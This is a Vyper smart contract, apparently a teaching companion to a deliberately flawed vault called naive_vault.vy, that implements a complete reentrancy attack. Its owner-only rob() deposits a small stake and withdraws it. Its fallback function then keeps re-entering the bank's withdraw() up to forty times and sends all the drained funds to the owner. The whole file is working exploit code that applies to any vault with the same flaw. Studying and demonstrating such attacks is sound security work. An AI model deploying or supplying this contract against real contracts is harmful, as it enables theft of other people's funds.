# pragma version ^0.4.0
"""
A thief that empties a bank such as naive_vault.vy, with a small deposit of its own.

The bank pays; being paid runs __default__(); that asks the bank to pay once more, as long as there is enough left.
Each call inside a call leaves a 64th of the gas behind, so the thief stops in time: if the innermost call ran out of
gas, all of them would be undone.
"""

interface Bank:
    def deposit(): payable
    def withdraw(): nonpayable

event Robbed:
    bank: indexed(address)
    stake: uint256
    loot: uint256

MAX_CALLS: public(constant(uint256)) = 40

owner: public(immutable(address))
bank: public(immutable(address))
stake: public(uint256)
calls: public(uint256)  # how often the bank was entered in the last robbery


@deploy
def __init__(_bank: address):
    owner = msg.sender
    bank = _bank


@external
@payable
def rob():
    """As the owner: deposit the stake, withdraw it, and take whatever comes."""
    assert msg.sender == owner, "not the owner"
    self.stake = msg.value
    self.calls = 0
    extcall Bank(bank).deposit(value=msg.value)
    self._withdraw()
    log Robbed(bank=bank, stake=msg.value, loot=self.balance)
    send(owner, self.balance)


@external
@payable
def __default__():
    """Be paid, and ask for more."""
    if msg.sender == bank and bank.balance >= self.stake and self.calls < MAX_CALLS:
        self._withdraw()


@internal
def _withdraw():
    self.calls += 1
    extcall Bank(bank).withdraw()
